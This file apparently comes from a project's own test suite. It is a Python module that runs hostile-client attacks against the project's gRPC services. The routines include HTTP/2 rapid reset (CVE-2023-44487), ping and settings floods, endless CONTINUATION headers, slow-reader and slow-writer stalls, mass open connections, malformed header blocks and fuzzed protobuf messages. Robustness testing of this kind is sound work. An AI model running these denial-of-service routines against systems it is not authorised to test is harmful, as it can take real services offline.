"""What hostile callers do to a service. Each attack runs until its time is over, in a process of its own."""

import random
import time
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import grpc
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass
from raw_http2 import RawConnection, headers

from tests.generator.fuzzing import changed, fields_of
from tests.helpers.http2_frames import ACK, END_HEADERS, FrameKind, call_fields, frame, grpc_message, header_block
from zrelay.v1 import encoder_pb2, generator_pb2, vision_pb2

SERVICES = {
    "encoder": encoder_pb2.DESCRIPTOR.services_by_name["EncoderService"],
    "vision": vision_pb2.DESCRIPTOR.services_by_name["VisionService"],
    "generator": generator_pb2.DESCRIPTOR.services_by_name["GeneratorService"],
}
_IMPROPER = {grpc.StatusCode.INTERNAL, grpc.StatusCode.UNKNOWN}
_CONNECTIONS = 500


@dataclass
class Target:
    """A service under attack, the time at which the attack ends, and what happened to its requests."""

    role: str
    endpoint: str
    ends: float
    chance: random.Random
    done: Counter[str]
    improper: list[str]

    @property
    def going(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.ends

    @property
    def path(self) -> bytes:
        """Path of the service's GetInfo."""
        return f"/{SERVICES[self.role].full_name}/GetInfo".encode()


def messages(target: Target) -> None:
    """Sends mutated messages to every rpc: fields at extremes from the descriptors, then damaged bytes."""
    service, chance = SERVICES[target.role], target.chance
    with grpc.insecure_channel(target.endpoint) as channel:
        while target.going:
            method: Any = chance.choice(service.methods)
            kind: type[Message] = GetMessageClass(method.input_type)
            request = kind()
            ways = fields_of(kind)
            for _ in range(chance.randrange(6) if ways else 0):
                changed(request, chance.choice(ways), chance.randrange(64), chance.choice((1, 2, 9, 300)))
            raw = bytearray(request.SerializeToString())
            for _ in range(chance.randrange(4) if raw and chance.random() < 0.5 else 0):
                raw[chance.randrange(len(raw))] = chance.randrange(256)
            call: Any = channel.stream_stream(f"/{service.full_name}/{method.name}")
            answers = call(iter([bytes(raw)]), timeout=5.0)
            try:
                for _ in answers:
                    pass
            except grpc.RpcError:
                pass
            target.done[f"{answers.code().name}"] += 1
            if answers.code() in _IMPROPER:
                target.improper.append(
                    f"{method.name} {answers.code().name} {answers.details()[:80]} {bytes(raw[:200]).hex()}"
                )


def path(target: Target) -> None:
    """Calls a path with a byte that is no UTF-8."""
    with RawConnection(target.endpoint) as raw:
        raw.call(1, b"/zrelay.v1.\xff/GetInfo", grpc_message(b""))
        raw.drain()


def header_coding(target: Target) -> None:
    """Sends header blocks that cannot be decoded, or that grow when they are."""
    blocks = (
        b"\xff\xff\xff\xff\xff\xff\x0f",
        b"\xbe",
        target.chance.randbytes(64),
        b"\x3f\xe1\xff\xff\xff\x0f",
        b"\0\x7f\xff",
    )
    with RawConnection(target.endpoint) as raw:
        raw.send(headers(1, target.chance.choice(blocks)))
        raw.drain()


def half_message(target: Target) -> None:
    """Names a message of megabytes, sends a part of it, and waits or goes."""
    with RawConnection(target.endpoint) as raw:
        for stream in range(1, 2 * target.chance.randrange(1, 20), 2):
            raw.call(
                stream,
                target.path,
                grpc_message(b"x" * 100, length=target.chance.choice((101, 1 << 20, 0xFFFFFFFF))),
                end=False,
            )
        time.sleep(target.chance.uniform(0, 0.5))


def rapid_reset(target: Target) -> None:
    """Opens and resets streams as fast as it can (CVE-2023-44487)."""
    with RawConnection(target.endpoint) as raw:
        block = header_block(call_fields(target.path))
        for start in range(1, 2000, 200):
            raw.send(
                b"".join(
                    headers(s, block) + frame(FrameKind.RST_STREAM, 0, s, b"\0\0\0\x08")
                    for s in range(start, start + 200, 2)
                )
            )


def ping_flood(target: Target) -> None:
    """Sends pings as fast as it can."""
    with RawConnection(target.endpoint) as raw:
        for _ in range(50):
            raw.send(frame(FrameKind.PING, 0, 0, bytes(8)) * 200)


def settings_flood(target: Target) -> None:
    """Sends settings as fast as it can, each of which has to be acknowledged."""
    with RawConnection(target.endpoint) as raw:
        for _ in range(50):
            raw.send(frame(FrameKind.SETTINGS) * 200)


def huge_headers(target: Target) -> None:
    """Sends metadata of megabytes, or a header block that never ends."""
    with RawConnection(target.endpoint) as raw:
        if target.chance.random() < 0.5:
            raw.call(1, target.path, grpc_message(b""), (b"x-fill", b"a" * 2_000_000))
        else:
            raw.send(frame(FrameKind.HEADERS, 0, 1, header_block(call_fields(target.path))))
            for _ in range(300):
                raw.send(frame(FrameKind.CONTINUATION, 0, 1, header_block([(b"x-fill", b"a" * 8000)])))
        raw.drain()


def spoiled(target: Target) -> None:
    """Sends frames that are wrong, and cuts the connection in the middle of right ones."""
    chance = target.chance
    with RawConnection(target.endpoint) as raw:
        whole = headers(1, header_block(call_fields(target.path))) + frame(FrameKind.DATA, 1, 1, grpc_message(b""))
        choices = (
            whole[: chance.randrange(len(whole))],
            chance.randbytes(chance.randrange(1, 300)),
            frame(FrameKind.WINDOW_UPDATE, 0, 0, b"\0\0\0\0"),
            frame(FrameKind.DATA, 0, 2, b"x"),
            frame(FrameKind.SETTINGS, ACK, 0, b"x" * 6),
            frame(FrameKind.PING, 0, 5, b"x"),
            frame(FrameKind.HEADERS, END_HEADERS, 0, b""),
            frame(chance.randrange(256), chance.randrange(256), chance.randrange(9), chance.randbytes(40)),
            b"\xff\xff\xff" + whole[3:],
        )
        raw.send(chance.choice(choices))
        raw.drain()


def slow_reader(target: Target) -> None:
    """Watches health and calls, and reads nothing; its receive buffer is small."""
    held = []
    try:
        for _ in range(10):
            raw = RawConnection(target.endpoint, receive_bytes=1024)
            held.append(raw)
            raw.call(1, b"/grpc.health.v1.Health/Watch", grpc_message(b""))
            for stream in range(3, 40, 2):
                raw.call(stream, target.path, grpc_message(b""))
        while target.going:
            time.sleep(0.1)
    finally:
        for raw in held:
            raw.socket.close()


def slow_writer(target: Target) -> None:
    """Sends a call byte by byte, with long pauses."""
    held = [RawConnection(target.endpoint) for _ in range(20)]
    whole = headers(1, header_block(call_fields(target.path))) + frame(FrameKind.DATA, 1, 1, grpc_message(b""))
    try:
        for byte in whole:
            if not target.going:
                break
            for raw in held:
                raw.send(bytes([byte]))
            time.sleep(0.05)
    finally:
        for raw in held:
            raw.socket.close()


def connections(target: Target) -> None:
    """Opens 500 connections and keeps them; some speak HTTP/2, some say nothing."""
    held = []
    try:
        for _ in range(_CONNECTIONS):
            held.append(RawConnection(target.endpoint))
        while target.going:
            time.sleep(0.1)
    finally:
        target.done["held"] += len(held)
        for raw in held:
            raw.socket.close()


ATTACKS: Mapping[str, Callable[[Target], None]] = {
    "messages": messages,
    "path": path,
    "header-coding": header_coding,
    "half-message": half_message,
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "huge-headers": huge_headers,
    "spoiled": spoiled,
    "slow-reader": slow_reader,
    "slow-writer": slow_writer,
    "connections": connections,
}


def attack(name: str, role: str, endpoint: str, seconds: float, seed: int) -> dict[str, Any]:
    """Runs one attack again and again; returns counts of what it did, and the answers that reveal a bug."""
    target = Target(role, endpoint, time.monotonic() + seconds, random.Random(seed), Counter(), [])
    while target.going:
        try:
            ATTACKS[name](target)
            target.done["turns"] += 1
        except OSError as error:  # the server may close a connection that attacks it
            target.done[type(error).__name__] += 1
            if isinstance(error, ConnectionRefusedError):
                time.sleep(0.2)
    return {"done": dict(target.done), "improper": target.improper[:5]}
